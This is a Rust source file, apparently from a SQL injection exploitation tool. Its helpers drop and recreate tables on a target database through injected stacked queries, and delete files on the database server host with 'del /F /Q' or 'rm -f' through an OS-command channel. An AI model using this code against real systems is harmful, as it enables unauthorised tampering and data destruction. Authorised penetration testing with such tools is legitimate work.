//! Support tables and remote files

use super::error::TakeoverResult;
use super::session::Session;
use super::Takeover;
use crate::sqli::core::OS;

impl Takeover<'_> {
    /// (Re)create a single-column helper table
    pub async fn create_support_table(&self, table: &str, field: &str, kind: &str) -> TakeoverResult<()> {
        self.best_effort(&format!("DROP TABLE {}", table)).await;

        let sql = format!("CREATE TABLE {}({} {})", table, field, kind);
        tracing::debug!("{}", sql);
        self.executor.stacked_query(&sql, false).await?;
        Ok(())
    }

    /// Delete a file on the database server host
    pub async fn del_remote_file(&self, session: &mut Session, path: &str) -> TakeoverResult<()> {
        self.check_dbms_os(session, false).await;

        let cmd = if session.backend.is_os(OS::Windows) {
            format!("del /F /Q {}", path.replace('/', "\\"))
        } else {
            format!("rm -f {}", path)
        };

        tracing::debug!("removing remote file '{}'", path);
        if let Err(e) = self.executor.os_command(&cmd, true).await {
            tracing::debug!("could not remove remote file '{}': {}", path, e);
        }
        Ok(())
    }
}
